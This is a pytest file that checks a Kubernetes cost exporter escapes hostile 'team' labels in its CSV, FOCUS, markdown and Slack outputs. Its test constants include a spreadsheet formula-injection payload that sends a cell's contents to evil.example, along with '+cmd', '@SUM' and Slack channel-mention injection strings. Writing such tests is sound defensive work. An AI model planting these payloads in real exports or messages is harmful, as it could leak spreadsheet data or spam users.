"""Hostile label values read from a real Prometheus, through every output that another program interprets.

Scenario: the sharing scenario's two nodes (cpu 0.10/core-h, ram 0.01/GiB-h); four pods on n1, each 1 core
and 2 GiB requested (0.10 + 0.02 = 0.12 an hour), with a `team` pod label a spreadsheet, a markdown table or
Slack would read as code. Each team costs 0.12 over the hour; idle on n1 is (8 - 4) x 0.10 + (32 - 8) x 0.01
= 0.64, n2 has no pod: 8 x 0.10 + 32 x 0.01 = 1.12 idle.
"""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from demo.localprom import PrometheusServer
from demo.synthetic import GIB, Cluster, Container, Node, Pod
from exporter.cli import main
from exporter.outputs.escape import csv_cell, md_cell, slack_text

from .conftest import aligned_past, scenario_prom
from .scenarios import SHARE_CPU, SHARE_RAM
from .test_allocate_core import REL, window_arg

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
PIPE = "a|b\nc"
CHANNEL = "<!channel> & <@U024BE7LH>"
TEXT_MINUS = "-2+3"  # text that looks like arithmetic: a formula, not a number
HOSTILE = (FORMULA, PIPE, CHANNEL, TEXT_MINUS, "@SUM(A1)", "+cmd", "\tTAB")
TEAM_COST = 1 * SHARE_CPU + 2 * SHARE_RAM  # 0.12
IDLE = (8 - len(HOSTILE)) * SHARE_CPU + (32 - 2 * len(HOSTILE)) * SHARE_RAM + 8 * SHARE_CPU + 32 * SHARE_RAM
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def hostile_cluster() -> Cluster:
    prices = {"cpu": SHARE_CPU, "ram": SHARE_RAM}
    pods = tuple(Pod("apps", f"p{i}", "n1", (Container("app", 1, 2 * GIB, 0, 0.5, GIB),), labels={"team": team})
                 for i, team in enumerate(HOSTILE))
    return Cluster((Node("n1", 8, 32 * GIB, opencost=prices), Node("n2", 8, 32 * GIB, opencost=prices)), pods,
                   {"apps": {}})


@pytest.fixture(scope="module")
def hostile_prom(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[PrometheusServer, int]]:
    t0 = aligned_past()
    for prom in scenario_prom(tmp_path_factory, "hostile", hostile_cluster(), t0):
        yield prom, t0


class Hook(BaseHTTPRequestHandler):
    received: list[Any]

    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        self.received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.end_headers()


def config(tmp_path: Path, prom: PrometheusServer, **extra: Any) -> Path:
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump({"prometheus": {"url": prom.url}, "attribution": {"source": "prometheus"},
                                    **extra}))
    return path


def cli(*args: str, env: dict[str, str] | None = None) -> str:
    res = CliRunner(env=env).invoke(main, list(args))
    assert res.exit_code == 0, res.output
    return str(res.stdout)


def cells(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:  # no cell of the file may start a formula, unless it is a number
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.fullmatch(cell), (column, cell)
    return rows


def test_unit_rules() -> None:
    assert [csv_cell(v) for v in (FORMULA, "-2+3", "\rx", "-", "plain", "a=b")] == [
        "'" + FORMULA, "'-2+3", "'\rx", "'-", "plain", "a=b"]
    assert [csv_cell(v) for v in (-0.12, "-0.12", "-1e-05", "+3", 7, None)] == [
        -0.12, "-0.12", "-1e-05", "+3", 7, None]  # numbers stay numbers
    assert md_cell("a|b\nc\r\nd\\|") == "a\\|b<br>c<br>d\\\\\\|"
    assert slack_text("<!channel> & <@U1>") == "&lt;!channel&gt; &amp; &lt;@U1&gt;"


def test_allocate_csv_and_focus_neutralise_formulas(hostile_prom: Any, tmp_path: Path) -> None:
    prom, t0 = hostile_prom
    cfg = str(config(tmp_path, prom))
    rows = cells(cli("allocate", "--config", cfg, "--window", window_arg(t0), "--aggregate", "team",
                     "--format", "csv"))
    got = {r["name"]: float(r["totalCost"]) for r in rows}
    assert set(got) == {*("'" + t if t != PIPE and t != CHANNEL else t for t in HOSTILE), "__idle__"}
    for team in HOSTILE:
        assert got[csv_cell(team)] == pytest.approx(TEAM_COST, rel=REL)
    assert got["__idle__"] == pytest.approx(IDLE, rel=REL)
    assert sum(got.values()) == pytest.approx(2 * (8 * SHARE_CPU + 32 * SHARE_RAM), rel=REL)  # conservation

    focus = cells(cli("allocate", "--config", cfg, "--window", window_arg(t0), "--aggregate", "team",
                      "--format", "focus"))
    names = {r["ResourceName"] for r in focus}
    assert {"'" + FORMULA, "'-2+3", "'@SUM(A1)", "'+cmd", "'\tTAB", PIPE, CHANNEL} <= names
    for r in focus:
        float(r["BilledCost"])  # numeric cells are still numbers
        assert json.loads(r["Tags"]) is not None  # a JSON object, untouched: it starts with '{'
    by_team = {n: sum(float(r["BilledCost"]) for r in focus if r["ResourceName"] == n) for n in names}
    assert by_team["'" + FORMULA] == pytest.approx(TEAM_COST, rel=REL)


def test_report_csv_markdown_and_slack(hostile_prom: Any, tmp_path: Path) -> None:
    prom, t0 = hostile_prom
    received: list[Any] = []
    http = ThreadingHTTPServer(("127.0.0.1", 0), type("H", (Hook,), {"received": received}))
    threading.Thread(target=http.serve_forever, daemon=True).start()
    try:
        cfg = str(config(tmp_path, prom, reports={"retries": 0, "teams": {CHANNEL: {"slack": {"env": "HOOK"}}},
                                                  "finance": {"slack": {"env": "HOOK"}}}))
        w = window_arg(t0)
        rows = cells(cli("report", "--config", cfg, "--window", w, "--by", "team", "--format", "csv"))
        got = {r["team"]: float(r["total"]) for r in rows}
        assert got["'" + FORMULA] == pytest.approx(TEAM_COST, rel=REL) and got[PIPE] == pytest.approx(TEAM_COST)

        md = cli("report", "--config", cfg, "--window", w, "--by", "team")
        groups_md, energy_md = md.split("\n## Energy and carbon\n")  # the group table, then energy's own
        table = [line for line in groups_md.splitlines() if line.startswith("| ")]
        energy = [line for line in energy_md.splitlines() if line.startswith("| ")]
        assert len(energy) == len(table) and all(len(re.findall(r"(?<!\\)\|", line.replace("\\\\", ""))) == 4
                                                 for line in energy), energy
        assert len(table) == 1 + len(HOSTILE) + 1  # the head, a row per team, __unattributed__ or idle
        for line in table:  # ten columns: eleven pipes that are not escaped
            assert len(re.findall(r"(?<!\\)\|", line.replace("\\\\", ""))) == 11, line
        assert any(line.startswith("| a\\|b<br>c | 0.12 |") for line in table), table

        cli("report", "--config", cfg, "--window", w, "--by", "team", "--send",
            env={"HOOK": f"http://127.0.0.1:{http.server_address[1]}/hook"})
        assert len(received) == 2  # the team named <!channel>, and finance
        for payload in received:
            text = json.dumps(payload)
            assert "<!channel>" not in text and "<@U024BE7LH>" not in text
            assert "&lt;!channel&gt; &amp; &lt;@U02" in payload["blocks"][2]["text"]["text"]  # names cut at 18
    finally:
        http.shutdown()
